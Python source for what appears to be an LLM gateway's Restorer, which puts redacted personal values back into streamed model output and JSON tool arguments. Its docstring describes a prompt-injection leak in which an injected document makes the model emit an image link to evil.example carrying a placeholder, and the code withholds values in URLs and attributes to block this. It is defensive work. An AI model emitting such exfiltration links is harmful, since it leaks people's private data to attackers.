"""Putting the values back into an answer, chunk by chunk.

A `Restorer` serves one channel (the text of one choice, the arguments of one tool call) and knows `feed` and `close`
only; a complete answer is a stream of one chunk. It keeps these properties, whatever the cuts:

* ``join(feed) + close`` is the same for every way of cutting;
* only the longest suffix that could still become an *issued* placeholder is held back (at most `MAX_LENGTH`);
  without a sentinel ``feed(x) == x``;
* values are inserted once and never scanned again; unknown tokens stay and are counted;
* nothing is restored inside a URL, a link target or an attribute of an HTML tag: an injected document could make the
  model write ``![](https://evil.example/?q=[PERSON_1])``, and the name would leave with the picture.

It does not know JSON frames, dialects or HTTP.
"""

from __future__ import annotations

import json
from collections.abc import Mapping

from gateway.redaction.place import Place
from gateway.redaction.placeholder import (
    MAX_LENGTH,
    SENTINELS,
    TOKEN,
    canonical,
    find_sentinel,
    may_become,
    without_suffix,
)


class Restorer:
    """Restores the placeholders of one exchange in one channel.

    ``values`` maps the issued form (``[PERSON_1]``) to what the person wrote. With ``json_string`` the channel is the
    source text of JSON (tool arguments), so a value is escaped where it lands. ``unresolved`` counts tokens that this
    exchange never issued, ``withheld`` those left as they are because of the place they stood at.
    """

    def __init__(self, values: Mapping[str, str], *, json_string: bool = False) -> None:
        self._values = values
        self._json = json_string
        self._carry = ""
        self._place = Place(json_string=json_string)
        self._raw: list[str] = []
        self.unresolved = 0
        self.withheld = 0

    @property
    def raw(self) -> str:
        """The channel as the provider sent it so far."""
        return "".join(self._raw)

    def feed(self, text: str) -> str:
        """Take the next piece of the answer and return all that can be shown now."""
        self._raw.append(text)
        if not self._carry and not any(s in text for s in SENTINELS):
            self._place.shown(text)
            return text
        return self._run(self._carry + text, final=False)

    def close(self) -> str:
        """End the channel and return what was held back, as it came: an unfinished token is never guessed."""
        return self._run(self._carry, final=True)

    def _run(self, text: str, *, final: bool) -> str:
        self._carry = ""
        out: list[str] = []
        position = 0
        while True:
            start = find_sentinel(text, position)
            if start < 0:
                break
            self._show(out, text[position:start])
            match = TOKEN.match(text, start, partial=not final)
            if match is None or (match.partial and not self._waits(text[start:])):
                self._show(out, text[start])
                position = start + 1
            elif match.partial:
                self._carry = text[start:]
                return "".join(out)
            else:
                self._show(out, self._value(match[0], canonical(match)))
                position = match.end()
        self._show(out, text[position:])
        return "".join(out)

    def _waits(self, tail: str) -> bool:
        return len(tail) <= MAX_LENGTH and may_become(tail, self._values)

    def _show(self, out: list[str], text: str) -> None:
        if text:
            out.append(text)
            self._place.shown(text)

    def _value(self, spelled: str, name: str) -> str:
        value = self._values.get(name)
        if value is None:  # the suffix is the model's own: the same person, in the form that came first
            base = without_suffix(name)
            value = next((v for issued, v in self._values.items() if without_suffix(issued) == base), None)
        if value is None:
            self.unresolved += 1
            return spelled
        if self._place.is_unsafe():
            self.withheld += 1
            return spelled
        return json.dumps(value, ensure_ascii=False)[1:-1] if self._json else value


def restore(text: str, values: Mapping[str, str]) -> str:
    """Restore a complete text: the stream of one chunk."""
    restorer = Restorer(values)
    return restorer.feed(text) + restorer.close()
